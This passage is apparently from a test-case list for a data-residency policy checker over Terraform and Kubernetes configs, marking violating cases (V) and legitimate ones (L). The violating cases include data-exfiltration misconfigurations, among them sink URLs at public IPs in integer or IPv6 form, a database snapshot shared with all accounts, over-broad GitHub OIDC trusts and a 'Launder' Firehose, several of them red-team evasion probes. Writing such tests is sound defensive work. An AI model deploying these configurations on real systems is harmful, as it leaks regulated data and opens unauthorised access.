    add: r("aws_sagemaker_domain", "D", { domain_name: "rk-eu-ds", auth_mode: "IAM", vpc_id: "${aws_vpc.Network_1C6012B5.id}", subnet_ids: ["${aws_subnet.Network_AppSubnet1_D1DBC460.id}"], default_user_settings: { execution_role: `arn:aws:iam::${EU}:role/rk-eu-ds`, sharing_settings: { notebook_output_option: "Allowed", s3_output_path: "${var.share}" } } }),
  }),
  L("legit", "variables for sizes and retention, not places", "data-eu", {
    mutate: (j) => Object.assign((j.variable ??= {}), { size: { type: "string", default: "t4g.small" }, days: { type: "number", default: 30 } }),
    add: merge(
      r("aws_instance", "Tools", { ami: "ami-0123456789abcdef0", instance_type: "${var.size}", subnet_id: "${aws_subnet.Network_AppSubnet1_D1DBC460.id}", metadata_options: { http_tokens: "required" } }),
      r("aws_cloudwatch_log_group", "Tools", { name: "/rk/eu/tools", retention_in_days: "${var.days}", kms_key_id: `arn:aws:kms:eu-central-1:${EU}:key/00000000-0000-0000-0000-000000000002` }),
    ),
  }),
  L("legit", "the router also served on eu's own host", "edge", {
    add: r("cloudflare_workers_route", "EuHost", { zone_id: "${var.cloudflare_zone_id}", pattern: "events.eu.example.com/v1/events*", script: "${cloudflare_workers_script.EdgeRouter_4801577C.script_name}" }),
  }),
  // ==== round 3, third pass: classes from the independent red team's new probes =============================
  V("edge", "eu pool whose fallback origin is us's host", "edge", {
    add: r("cloudflare_load_balancer_pool", "Eu", { account_id: "${var.cloudflare_account_id}", name: "events-eu", origins: [{ name: "eu", address: "events.eu.example.com" }, { name: "us-fallback", address: "events.us.example.com" }] }),
  }),
  V("edge", "worker tail consumer outside the stack", "edge", { mutate: (j) => (find(j, "cloudflare_workers_script")[1].tail_consumers = [{ service: "partner-log-forwarder" }]) }),
  V("edge", "worker service binding to a worker outside the stack", "edge", { mutate: (j) => find(j, "cloudflare_workers_script")[1].bindings.push({ type: "service", name: "ARCHIVE", service: "events-archive" }) }),
  V("edge", "worker queue binding", "edge", { mutate: (j) => find(j, "cloudflare_workers_script")[1].bindings.push({ type: "queue", name: "SPOOL", queue_name: "events-spool" }) }),
  V("edge", "worker logpush on", "edge", { mutate: (j) => (find(j, "cloudflare_workers_script")[1].logpush = true) }),
  L("legit", "worker service binding to a worker of the stack", "edge", {
    add: r("cloudflare_workers_script", "Health", { account_id: "${var.cloudflare_account_id}", script_name: "rk-edge-health", content: "export default { fetch: () => new Response('ok') };", main_module: "worker.js" }),
    mutate: (j) => find(j, "cloudflare_workers_script", (a) => a.script_name === "rk-edge-events")[1].bindings.push({ type: "service", name: "HEALTH", service: "rk-edge-health" }),
  }),
  V("kubernetes", "Deployment env from a ConfigMap the stack does not define", "cdc-eu", {
    mutate: (j) => {
      const [, d] = find(j, "kubernetes_manifest", (a) => a.manifest.kind === "Deployment");
      d.manifest.spec.template.spec.containers[0].env = [...(d.manifest.spec.template.spec.containers[0].env ?? []), { name: "SINK_URL", valueFrom: { configMapKeyRef: { name: "partner-sink", key: "url" } } }];
    },
  }),
  L("legit", "Deployment env from a ConfigMap the stack defines", "cdc-eu", {
    add: r("kubernetes_manifest", "Tuning", { manifest: { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "tuning", namespace: "cdc" }, data: { LOG_LEVEL: "INFO" } } }),
    mutate: (j) => {
      const [, d] = find(j, "kubernetes_manifest", (a) => a.manifest.kind === "Deployment");
      d.manifest.spec.template.spec.containers[0].env = [...(d.manifest.spec.template.spec.containers[0].env ?? []), { name: "LOG_LEVEL", valueFrom: { configMapKeyRef: { name: "tuning", key: "LOG_LEVEL" } } }];
    },
  }),
  V("external", "ECS FireLens output to Datadog without a host", "data-eu", {
    add: r("aws_ecs_task_definition", "T", { family: "rk-eu-exporter", container_definitions: JSON.stringify([{ name: "app", image: `${EU}.dkr.ecr.eu-central-1.amazonaws.com/rk-eu-app:1`, logConfiguration: { logDriver: "awsfirelens", options: { Name: "datadog", apikey: "x", dd_service: "exporter" } } }]) }),
  }),
  V("external", "Lambda switching on a vendor agent by its key", "data-eu", {
    add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "h", runtime: "python3.12", filename: "f.zip", environment: { variables: { DD_API_KEY_SECRET_ARN: `arn:aws:secretsmanager:eu-central-1:${EU}:secret:dd-AbCdEf` } } }),
  }),
  L("legit", "ECS FireLens output to CloudWatch Logs in the region", "data-eu", {
    add: r("aws_ecs_task_definition", "T", { family: "rk-eu-exporter", container_definitions: JSON.stringify([{ name: "app", image: `${EU}.dkr.ecr.eu-central-1.amazonaws.com/rk-eu-app:1`, logConfiguration: { logDriver: "awsfirelens", options: { Name: "cloudwatch_logs", region: "eu-central-1", log_group_name: "/rk/eu/app", log_stream_prefix: "app" } } }]) }),
  }),
  V("central", "central MWAA remote logging into a regional logs bucket", "central", {
    mutate: (j) => (find(j, "aws_mwaa_environment")[1].airflow_configuration_options = { ...(find(j, "aws_mwaa_environment")[1].airflow_configuration_options ?? {}), "logging.remote_base_log_folder": `s3://${LOGS}/airflow` }),
  }),
  V("warehouse", "grant to a share created outside the stack", "warehouse", { add: r("snowflake_grant_privileges_to_share", "G", { to_share: "PARTNER_SHARE", privileges: ["SELECT"], on_all_tables_in_schema: '"REGIONKIT"."SANITIZED"' }) }),
  V("mover", "Athena named query unloading raw tables into the sanitized export", "data-eu", {
    add: r("aws_athena_named_query", "Q", { name: "rk-eu-unload", database: "raw", query: `UNLOAD (SELECT * FROM raw.block) TO 's3://${SANITIZED}/export/block/' WITH (format = 'PARQUET')` }),
  }),
  V("principal", "data-us raw bucket readable by central's role in the shared account", "data-us", {
    add: r("aws_s3_bucket_policy", "P", { bucket: "rk-us-lake-raw-111111111111", policy: doc([{ Effect: "Allow", Principal: { AWS: "arn:aws:iam::111111111111:role/rk-central-airflow-execution" }, Action: "s3:GetObject", Resource: "arn:aws:s3:::rk-us-lake-raw-111111111111/*" }]) }),
  }),
  V("reference", "data-us log subscription to central's log destination", "data-us", {
    add: r("aws_cloudwatch_log_subscription_filter", "S", { name: "s", log_group_name: "/rk/us/app", filter_pattern: "", destination_arn: "arn:aws:logs:us-west-2:111111111111:destination:rk-central-logs" }),
  }),
  V("cross-boundary", "raw bucket policy grants warehouse-read", "data-eu", {
    add: r("aws_s3_bucket_policy", "P", { bucket: RAW, policy: doc([{ Effect: "Allow", Principal: { AWS: `arn:aws:iam::${EU}:role/rk-eu-warehouse-read` }, Action: "s3:GetObject", Resource: `arn:aws:s3:::${RAW}/*` }]) }),
  }),
  V("cross-boundary", "a role trusting warehouse-read (role chaining)", "data-eu", {
    add: r("aws_iam_role", "Chain", { name: "rk-eu-raw-reader", assume_role_policy: doc([{ Effect: "Allow", Principal: { AWS: `arn:aws:iam::${EU}:role/rk-eu-warehouse-read` }, Action: "sts:AssumeRole" }]) }),
  }),
  V("cross-boundary", "key policy letting warehouse-read decrypt without kms:ViaService", "data-eu", {
    add: r("aws_kms_key", "K", { description: "k", enable_key_rotation: true, policy: doc([{ Effect: "Allow", Principal: { AWS: `arn:aws:iam::${EU}:role/rk-eu-warehouse-read` }, Action: "kms:Decrypt", Resource: "*" }]) }),
  }),
  V("reference", "subnet placed by the AZ id of us-east-1", "data-eu", { add: r("aws_subnet", "S", { vpc_id: "${aws_vpc.Network_1C6012B5.id}", cidr_block: "10.20.250.0/24", availability_zone_id: "use1-az4" }) }),
  L("legit", "subnet placed by an AZ id of the region", "data-eu", { add: r("aws_subnet", "S", { vpc_id: "${aws_vpc.Network_1C6012B5.id}", cidr_block: "10.20.250.0/24", availability_zone_id: "euc1-az2" }) }),
  V("placement", "provider alias with a named profile and no allowed_account_ids", "data-eu", { mutate: (j) => addProvider(j, "aws", { alias: "partner", region: "eu-central-1", profile: "partner-prod" }) }),
  L("legit", "provider alias with a named profile pinned to the account", "data-eu", { mutate: (j) => addProvider(j, "aws", { alias: "ops", region: "eu-central-1", profile: "eu-ops", allowed_account_ids: [EU] }) }),
  V("mover", "Firehose record-transform Lambda from a variable", "data-eu", {
    mutate: (j) => ((j.variable ??= {}).transform = { type: "string" }),
    add: r("aws_kinesis_firehose_delivery_stream", "F", { name: "rk-eu-f", destination: "extended_s3", extended_s3_configuration: { role_arn: `arn:aws:iam::${EU}:role/rk-eu-fh`, bucket_arn: `arn:aws:s3:::${LOGS}`, processing_configuration: { enabled: true, processors: [{ type: "Lambda", parameters: [{ parameter_name: "LambdaArn", parameter_value: "${var.transform}" }] }] } } }),
  }),
  L("legit", "an EMR bootstrap script and an ECS entrypoint named *.sh", "data-eu", {
    add: r("aws_ecs_task_definition", "T", { family: "rk-eu-worker", container_definitions: JSON.stringify([{ name: "app", image: `${EU}.dkr.ecr.eu-central-1.amazonaws.com/rk-eu-app:1`, command: ["/app/entrypoint.sh", "run-deps.sh"] }]) }),
    mutate: (j) => (find(j, "aws_emr_cluster")[1].bootstrap_action = [{ name: "deps", path: `s3://rk-eu-spark-artifacts-${EU}/bootstrap/install-deps.sh` }]),
  }),
  L("legit", "a 100 GiB topic retention (twelve digits, not an account)", "cdc-eu", { add: kafkaManifest("KafkaTopic", { topicName: "eu.archive", partitions: 3, replicas: 3, config: { "retention.bytes": "107374182400" } }) }),
  V("external", "a sink URL at a public IPv6 address", "data-eu", {
    add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "h", runtime: "python3.12", filename: "f.zip", environment: { variables: { SINK_URL: "http://[2606:4700:4700::1111]:8080/ingest" } } }),
  }),
  V("external", "a sink URL at an IP in integer form", "data-eu", {
    add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "h", runtime: "python3.12", filename: "f.zip", environment: { variables: { SINK_URL: "http://1113982867/ingest" } } }),
  }),
  V("reference", "a private address inside jp's network", "data-eu", {
    add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "h", runtime: "python3.12", filename: "f.zip", environment: { variables: { DB_HOST: "10.30.1.5" } } }),
  }),
  L("legit", "a private address inside the region's own network", "data-eu", {
    add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "h", runtime: "python3.12", filename: "f.zip", environment: { variables: { DB_HOST: "10.20.1.5" } } }),
  }),
  V("principal", "a database snapshot shared with all accounts", "data-eu", { add: r("aws_db_snapshot", "S", { db_instance_identifier: "rk-eu-shard-001", db_snapshot_identifier: "rk-eu-shard-001-share", shared_accounts: ["all"] }) }),
  V("principal", "a bucket ACL granting another account's canonical user", "data-eu", {
    add: r("aws_s3_bucket_acl", "Acl", { bucket: RAW, access_control_policy: { owner: { id: "0f1e2d3c4b5a69788796a5b4c3d2e1f0" }, grant: [{ permission: "READ", grantee: { type: "CanonicalUser", id: "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be" } }] } }),
  }),
  V("mover", "Firehose from the region's Kafka into the sanitized bucket's export prefix", "data-eu", {
    add: r("aws_kinesis_firehose_delivery_stream", "Launder", { name: "rk-eu-launder", destination: "extended_s3", msk_source_configuration: { msk_cluster_arn: `arn:aws:kafka:eu-central-1:${EU}:cluster/rk-eu-kafka/abc`, topic_name: "eu.cdc.block" }, extended_s3_configuration: { bucket_arn: `arn:aws:s3:::${SANITIZED}`, prefix: "export/block/", role_arn: `arn:aws:iam::${EU}:role/rk-eu-fh` } }),
  }),
  V("central", "a central DAG naming a regional raw bucket", "central", {
    add: r("aws_s3_object", "Dag2", { bucket: "rk-central-config-111111111111", key: "dags/pull_eu.py", content: `S3Hook().copy_object(source_bucket_key="block/p.parquet", dest_bucket_key="incoming/eu.parquet", source_bucket_name="${RAW}")` }),
  }),
  // ==== legitimate: must pass every residency rule =========================================================
  L("legit", "the default synth, unchanged", "data-eu", {}),
  L("legit", "RDS read replica in the backup region", "data-eu", {
    add: r("aws_db_instance", "BackupReplica", { provider: "aws.backup", identifier: "rk-eu-shard-001-dr", instance_class: "db.r7g.large", replicate_source_db: "arn:aws:rds:eu-central-1:222222222222:db:rk-eu-shard-001", kms_key_id: "arn:aws:kms:eu-west-1:222222222222:key/00000000-0000-0000-0000-000000000001" }),
  }),
  L("legit", "RDS automated backups replicated to the backup region", "data-eu", {
    add: r("aws_db_instance_automated_backups_replication", "Dr", { provider: "aws.backup", source_db_instance_arn: "arn:aws:rds:eu-central-1:222222222222:db:rk-eu-shard-001", kms_key_id: "arn:aws:kms:eu-west-1:222222222222:key/00000000-0000-0000-0000-000000000001", retention_period: 14 }),
  }),
  L("legit", "S3 replication to the backup-region bucket", "data-eu", {
    add: merge(
      r("aws_s3_bucket", "RawBackup", { provider: "aws.backup", bucket: BACKUP_RAW }),
      r("aws_s3_bucket_replication_configuration", "Repl", {
        bucket: RAW,
        role: `arn:aws:iam::${EU}:role/rk-eu-replication`,
        rule: [{ id: "all", status: "Enabled", filter: {}, delete_marker_replication: { status: "Enabled" }, destination: { bucket: "${aws_s3_bucket.RawBackup.arn}", storage_class: "STANDARD", encryption_configuration: { replica_kms_key_id: "arn:aws:kms:eu-west-1:222222222222:key/00000000-0000-0000-0000-000000000001" } } }],
      }),
    ),
  }),
  L("legit", "inline S3 replication to the region's backup bucket", "data-eu", {
    add: r("aws_s3_bucket", "Inline", { bucket: "rk-eu-inline-222222222222", replication_configuration: { role: `arn:aws:iam::${EU}:role/rk-eu-replication`, rules: [{ id: "all", status: "Enabled", destination: { bucket: `arn:aws:s3:::${BACKUP_RAW}` } }] } }),
  }),
  L("legit", "DynamoDB replica in the backup region", "data-eu", {
    add: r("aws_dynamodb_table", "T", { name: "rk-eu-t", hash_key: "id", billing_mode: "PAY_PER_REQUEST", attribute: [{ name: "id", type: "S" }], replica: [{ region_name: "eu-west-1", kms_key_arn: "arn:aws:kms:eu-west-1:222222222222:key/00000000-0000-0000-0000-000000000001" }] }),
  }),
  L("legit", "AWS Backup copy into a backup-region vault", "data-eu", {
    add: merge(
      r("aws_backup_vault", "Dr", { provider: "aws.backup", name: "rk-eu-dr", kms_key_arn: "arn:aws:kms:eu-west-1:222222222222:key/00000000-0000-0000-0000-000000000001" }),
      r("aws_backup_plan", "Plan", { name: "rk-eu-plan", rule: [{ rule_name: "daily", target_vault_name: "rk-eu-primary", schedule: "cron(0 5 * * ? *)", copy_action: [{ destination_vault_arn: "${aws_backup_vault.Dr.arn}" }] }] }),
    ),
  }),
  L("legit", "EBS snapshot copy into the backup region", "data-eu", { add: r("aws_ebs_snapshot_copy", "C", { provider: "aws.backup", source_snapshot_id: "snap-0123456789abcdef0", source_region: "eu-central-1", encrypted: true }) }),
  L("legit", "DLM cross-region copy to the backup region", "data-eu", {
    add: r("aws_dlm_lifecycle_policy", "P", {
      description: "daily EBS snapshots, copied to eu-west-1",
      execution_role_arn: `arn:aws:iam::${EU}:role/rk-eu-dlm`,
      policy_details: { resource_types: ["VOLUME"], target_tags: { backup: "true" }, schedule: [{ name: "s", create_rule: { interval: 24 }, retain_rule: { count: 7 }, cross_region_copy_rule: [{ target: "eu-west-1", encrypted: true, retain_rule: { interval: 7, interval_unit: "DAYS" } }] }] },
    }),
  }),
  L("legit", "prose naming other regions in descriptions and tags", "data-eu", {
    add: r("aws_ssm_parameter", "Doc", { name: "/rk/eu/runbook", type: "String", value: "see runbook", description: "Unlike the us-east-1 pilot, EU data stays in eu-central-1; account 999999999999 is the vendor's", tags: { note: "migrated from ap-southeast-2" } }),
  }),
  L("legit", "the event sink under another name", "data-eu", {
    mutate: (j) => {
      const [, c] = find(j, "aws_mskconnect_connector");
      c.name = "rk-eu-events-to-warehouse";
    },
  }),
  L("legit", "SNS topic and subscription to an in-region queue", "data-eu", {
    add: merge(r("aws_sns_topic", "T", { name: "rk-eu-alerts", kms_master_key_id: "alias/rk-eu" }), r("aws_sqs_queue", "Q", { name: "rk-eu-alerts" }), r("aws_sns_topic_subscription", "S", { topic_arn: "${aws_sns_topic.T.arn}", protocol: "sqs", endpoint: "${aws_sqs_queue.Q.arn}" })),
  }),
  L("legit", "EventBridge rule to an in-stack Lambda", "data-eu", {
    add: merge(
      r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "h", runtime: "python3.12", filename: "f.zip", environment: { variables: { QUEUE_URL: `https://sqs.eu-central-1.amazonaws.com/${EU}/rk-eu-q` } } }),
      r("aws_cloudwatch_event_rule", "R", { name: "rk-eu-nightly", schedule_expression: "rate(1 day)" }),
      r("aws_cloudwatch_event_target", "T", { rule: "${aws_cloudwatch_event_rule.R.name}", arn: "${aws_lambda_function.F.arn}" }),
      r("aws_lambda_permission", "P", { statement_id: "events", action: "lambda:InvokeFunction", function_name: "${aws_lambda_function.F.function_name}", principal: "events.amazonaws.com", source_arn: "${aws_cloudwatch_event_rule.R.arn}" }),
    ),
  }),
  L("legit", "CloudWatch alarm notifying an in-region topic", "data-eu", {
    add: merge(
      r("aws_sns_topic", "Alarms", { name: "rk-eu-alarms" }),
      r("aws_cloudwatch_metric_alarm", "A", { alarm_name: "rk-eu-lag", comparison_operator: "GreaterThanThreshold", evaluation_periods: 1, metric_name: "MaxOffsetLag", namespace: "AWS/Kafka", period: 60, statistic: "Maximum", threshold: 1000, alarm_actions: ["${aws_sns_topic.Alarms.arn}"] }),
    ),
  }),
  L("legit", "Secrets Manager replica in the backup region", "data-eu", { add: r("aws_secretsmanager_secret", "S", { name: "rk-eu-s", kms_key_id: "alias/rk-eu", replica: [{ region: "eu-west-1" }] }) }),
  L("legit", "interface endpoint for an in-region service", "data-eu", { add: r("aws_vpc_endpoint", "Sns", { vpc_id: "vpc-1", service_name: "com.amazonaws.eu-central-1.sns", vpc_endpoint_type: "Interface", private_dns_enabled: true }) }),
  L("legit", "private hosted zone and record", "data-eu", {
    add: merge(r("aws_route53_zone", "Z", { name: "eu.internal.example", vpc: [{ vpc_id: "vpc-1" }] }), r("aws_route53_record", "R", { zone_id: "${aws_route53_zone.Z.zone_id}", name: "pooler", type: "CNAME", ttl: 60, records: ["internal-rk-eu-pgbouncer.elb.eu-central-1.amazonaws.com"] })),
  }),
  L("legit", "ECS task logging in-region", "data-eu", {
    add: r("aws_ecs_task_definition", "T", {
      family: "rk-eu-t",
      container_definitions: JSON.stringify([{ name: "app", image: `${EU}.dkr.ecr.eu-central-1.amazonaws.com/rk-eu-app:1`, logConfiguration: { logDriver: "awslogs", options: { "awslogs-region": "eu-central-1", "awslogs-group": "/rk/eu/app" } } }]),
    }),
  }),
  L("legit", "KMS key policy for EBS bounded by caller account", "data-eu", {
    add: r("aws_kms_key", "Ebs", {
      description: "EBS",
      enable_key_rotation: true,
      policy: doc([
        { Sid: "Root", Effect: "Allow", Principal: { AWS: `arn:aws:iam::${EU}:root` }, Action: "kms:*", Resource: "*" },
        { Sid: "ViaEc2", Effect: "Allow", Principal: { AWS: "*" }, Action: ["kms:Decrypt", "kms:CreateGrant"], Resource: "*", Condition: { StringEquals: { "kms:CallerAccount": EU, "kms:ViaService": "ec2.eu-central-1.amazonaws.com" } } },
      ]),
    }),
  }),
  L("legit", "bucket policy for S3 server access logs bounded to the account", "data-eu", {
    add: r("aws_s3_bucket_policy", "Logs", { bucket: LOGS, policy: doc([{ Effect: "Allow", Principal: { Service: "logging.s3.amazonaws.com" }, Action: "s3:PutObject", Resource: `arn:aws:s3:::${LOGS}/*`, Condition: { StringEquals: { "aws:SourceAccount": EU } } }]) }),
  }),
  L("legit", "Athena results in the region's logs bucket", "data-eu", { add: r("aws_athena_workgroup", "W", { name: "rk-eu-adhoc", configuration: { result_configuration: { output_location: `s3://${LOGS}/athena/` } } }) }),
  L("legit", "Glue job from the region's artifacts bucket over the lake", "data-eu", {
    add: r("aws_glue_job", "J", { name: "rk-eu-compact", role_arn: `arn:aws:iam::${EU}:role/rk-eu-glue`, command: { script_location: `s3://rk-eu-spark-artifacts-${EU}/compact.py` }, default_arguments: { "--TempDir": `s3://rk-eu-lake-lake-${EU}/tmp/` } }),
  }),
  L("legit", "log subscription to an in-stack Firehose into the region's bucket", "data-eu", {
    add: merge(
      r("aws_kinesis_firehose_delivery_stream", "F", { name: "rk-eu-logs", destination: "extended_s3", extended_s3_configuration: { role_arn: `arn:aws:iam::${EU}:role/rk-eu-fh`, bucket_arn: `arn:aws:s3:::${LOGS}` } }),
      r("aws_cloudwatch_log_subscription_filter", "S", { name: "s", log_group_name: "/rk/eu/app", filter_pattern: "", destination_arn: "${aws_kinesis_firehose_delivery_stream.F.arn}", role_arn: `arn:aws:iam::${EU}:role/rk-eu-cwl` }),
    ),
  }),
  L("legit", "an EC2 instance and CloudTrail to the region's logs bucket", "data-eu", {
    add: merge(
      r("aws_instance", "Bastion", { ami: "ami-0123456789abcdef0", instance_type: "t4g.micro", subnet_id: "subnet-1", metadata_options: { http_tokens: "required" } }),
      r("aws_cloudtrail", "Trail", { name: "rk-eu-trail", s3_bucket_name: LOGS, is_multi_region_trail: false, kms_key_id: `arn:aws:kms:eu-central-1:${EU}:key/00000000-0000-0000-0000-000000000002` }),
    ),
  }),
  L("legit", "gateway endpoint policy with Principal * limited to the region's buckets", "data-eu", {
    add: r("aws_vpc_endpoint", "S3Scoped", { vpc_id: "vpc-1", service_name: "com.amazonaws.eu-central-1.s3", vpc_endpoint_type: "Gateway", policy: doc([{ Effect: "Allow", Principal: "*", Action: ["s3:GetObject", "s3:PutObject"], Resource: [`arn:aws:s3:::${RAW}/*`, `arn:aws:s3:::rk-eu-lake-lake-${EU}/*`] }]) }),
  }),
  L("legit", "Connect build pulling a plugin artifact, pushing to the region's ECR", "cdc-eu", {
    mutate: (j) => {
      const [, c] = find(j, "kubernetes_manifest", (a) => a.manifest.kind === "KafkaConnect");
      c.manifest.spec.build = { output: { type: "docker", image: `${EU}.dkr.ecr.eu-central-1.amazonaws.com/rk-eu-cdc-connect:build` }, plugins: [{ name: "debezium", artifacts: [{ type: "tgz", url: "https://repo1.maven.org/maven2/io/debezium/debezium-connector-postgres/2.7.3.Final/debezium-connector-postgres-2.7.3.Final-plugin.tar.gz" }] }] };
    },
  }),
  L("legit", "DMS from the region's database into its lake", "data-eu", {
    add: merge(
      r("aws_dms_endpoint", "Src", { endpoint_id: "rk-eu-src", endpoint_type: "source", engine_name: "postgres", server_name: "rk-eu-shard-001.abcdefghij.eu-central-1.rds.amazonaws.com", port: 5432, database_name: "app" }),
      r("aws_dms_s3_endpoint", "Dst", { endpoint_id: "rk-eu-dst", endpoint_type: "target", bucket_name: RAW, service_access_role_arn: `arn:aws:iam::${EU}:role/rk-eu-dms` }),
    ),
  }),
  L("legit", "SNS HTTPS subscription to the region's API Gateway", "data-eu", { add: r("aws_sns_topic_subscription", "Api", { topic_arn: `arn:aws:sns:eu-central-1:${EU}:t`, protocol: "https", endpoint: "https://abc123.execute-api.eu-central-1.amazonaws.com/prod/hook" }) }),
  L("legit", "IRSA role trusting the region's EKS OIDC provider", "data-eu", {
    add: r("aws_iam_role", "Irsa", { name: "rk-eu-irsa", assume_role_policy: doc([{ Effect: "Allow", Principal: { Federated: `arn:aws:iam::${EU}:oidc-provider/oidc.eks.eu-central-1.amazonaws.com/id/ABCDEF0123456789` }, Action: "sts:AssumeRoleWithWebIdentity", Condition: { StringEquals: { "oidc.eks.eu-central-1.amazonaws.com/id/ABCDEF0123456789:sub": "system:serviceaccount:cdc:x" } } }]) }),
  }),
  L("legit", "a PodMonitor for the Connect pods", "cdc-eu", { add: kafkaManifest("PodMonitor", { selector: { matchLabels: { "strimzi.io/kind": "KafkaConnect" } }, podMetricsEndpoints: [{ path: "/metrics", port: "tcp-prometheus" }] }, "monitoring.coreos.com/v1") }),
  L("legit", "a new KafkaTopic in cdc", "cdc-eu", { add: kafkaManifest("KafkaTopic", { topicName: "eu.audit", partitions: 3, replicas: 3 }) }),
  L("legit", "central, unchanged (orchestrator-access is the designed way in)", "central", {}),
  L("legit", "warehouse, unchanged (sanitized exports are the designed crossing)", "warehouse", {}),
  L("legit", "cdc, unchanged", "cdc-eu", {}),
  L("legit", "a backup region used by jp", "data-jp", { add: r("aws_dynamodb_table", "T", { name: "rk-jp-t", hash_key: "id", attribute: [{ name: "id", type: "S" }], replica: [{ region_name: "ap-northeast-3" }] }) }),

  // ---- red-team round 4: federated trusts, AWS-published layers, ForAllValues --------------------------
  V("principal", "role trusting GitHub OIDC with sub = repo:* (any repository)", "data-eu", {
    add: r("aws_iam_role", "Ci", { name: "rk-eu-ci", assume_role_policy: doc([{ Effect: "Allow", Principal: { Federated: `arn:aws:iam::${EU}:oidc-provider/token.actions.githubusercontent.com` }, Action: "sts:AssumeRoleWithWebIdentity", Condition: { StringLike: { "token.actions.githubusercontent.com:sub": "repo:*" }, StringEquals: { "token.actions.githubusercontent.com:aud": "sts.amazonaws.com" } } }]) }),
  }),
  V("principal", "role trusting GitHub OIDC with the sub only under ForAllValues (true without the key)", "data-eu", {
    add: r("aws_iam_role", "Ci", { name: "rk-eu-ci", assume_role_policy: doc([{ Effect: "Allow", Principal: { Federated: `arn:aws:iam::${EU}:oidc-provider/token.actions.githubusercontent.com` }, Action: "sts:AssumeRoleWithWebIdentity", Condition: { "ForAllValues:StringEquals": { "token.actions.githubusercontent.com:sub": "repo:acme/regionkit:environment:eu-prod" } } }]) }),
  }),
  V("principal", "role trusting a SAML provider the stack does not define (a partner IdP)", "data-eu", {
    add: r("aws_iam_role", "Saml", { name: "rk-eu-saml", assume_role_policy: doc([{ Effect: "Allow", Principal: { Federated: `arn:aws:iam::${EU}:saml-provider/PartnerIdP` }, Action: "sts:AssumeRoleWithSAML", Condition: { StringEquals: { "SAML:aud": "https://signin.aws.amazon.com/saml" } } }]) }),
  }),
  V("principal", "raw bucket policy Principal * bounded by ForAllValues:StringEquals aws:PrincipalAccount (true for anonymous callers)", "data-eu", {
    add: r("aws_s3_bucket_policy", "Fav", { bucket: RAW, policy: doc([{ Effect: "Allow", Principal: "*", Action: "s3:GetObject", Resource: `arn:aws:s3:::${RAW}/*`, Condition: { "ForAllValues:StringEquals": { "aws:PrincipalAccount": [EU] } } }]) }),
  }),
  V("reference", "Lambda layer of a vendor's account (Datadog extension)", "data-eu", {
    add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "index.handler", runtime: "nodejs22.x", s3_bucket: `rk-eu-spark-artifacts-${EU}`, s3_key: "f.zip", layers: ["arn:aws:lambda:eu-central-1:464622532012:layer:Datadog-Extension:65"] }),
  }),
  V("reference", "a layer of AWS's Insights account that is not the Insights layer", "data-eu", {
    add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "index.handler", runtime: "nodejs22.x", s3_bucket: `rk-eu-spark-artifacts-${EU}`, s3_key: "f.zip", layers: ["arn:aws:lambda:eu-central-1:580247275435:layer:PartnerForwarder:3"] }),
  }),
  V("reference", "the Insights layer account outside `layers` (an environment value)", "data-eu", {
    add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "index.handler", runtime: "nodejs22.x", s3_bucket: `rk-eu-spark-artifacts-${EU}`, s3_key: "f.zip", environment: { variables: { FORWARD_TO: "arn:aws:lambda:eu-central-1:580247275435:layer:LambdaInsightsExtension:53" } } }),
  }),
  V("reference", "the Insights layer of another AWS region (us-east-1) in data-eu", "data-eu", {
    add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "index.handler", runtime: "nodejs22.x", s3_bucket: `rk-eu-spark-artifacts-${EU}`, s3_key: "f.zip", layers: ["arn:aws:lambda:us-east-1:580247275435:layer:LambdaInsightsExtension:53"] }),
  }),
  L("legit", "role trusting GitHub OIDC with a literal sub of the kit's repository and environment", "data-eu", {
    add: r("aws_iam_role", "Ci", { name: "rk-eu-ci", assume_role_policy: doc([{ Effect: "Allow", Principal: { Federated: `arn:aws:iam::${EU}:oidc-provider/token.actions.githubusercontent.com` }, Action: "sts:AssumeRoleWithWebIdentity", Condition: { StringEquals: { "token.actions.githubusercontent.com:sub": "repo:acme/regionkit:environment:eu-prod", "token.actions.githubusercontent.com:aud": "sts.amazonaws.com" } } }]) }),
  }),
  L("legit", "role trusting GitHub OIDC for any branch of one repository (repo:owner/name:*)", "data-eu", {
    add: r("aws_iam_role", "Ci", { name: "rk-eu-ci", assume_role_policy: doc([{ Effect: "Allow", Principal: { Federated: `arn:aws:iam::${EU}:oidc-provider/token.actions.githubusercontent.com` }, Action: "sts:AssumeRoleWithWebIdentity", Condition: { StringLike: { "token.actions.githubusercontent.com:sub": "repo:acme/regionkit:*" } } }]) }),
  }),
  L("legit", "role trusting the account's own SAML provider (defined here) with the standard SAML:aud", "data-eu", {
    add: merge(
      r("aws_iam_saml_provider", "Sso", { name: "rk-eu-sso", saml_metadata_document: '<EntityDescriptor entityID="https://portal.sso.eu-central-1.amazonaws.com/saml/assertion/MTIzNDU2Nzg5MDEy"><IDPSSODescriptor><SingleSignOnService Location="https://portal.sso.eu-central-1.amazonaws.com/saml/assertion/MTIzNDU2Nzg5MDEy"/></IDPSSODescriptor></EntityDescriptor>' }),
      r("aws_iam_role", "Sso", { name: "rk-eu-sso", assume_role_policy: doc([{ Effect: "Allow", Principal: { Federated: "${aws_iam_saml_provider.Sso.arn}" }, Action: "sts:AssumeRoleWithSAML", Condition: { StringEquals: { "SAML:aud": "https://signin.aws.amazon.com/saml" } } }]) }),
    ),
  }),
  L("legit", "policy document (data source) trusting GitHub OIDC with a literal sub", "data-eu", {
    mutate: (j) => {
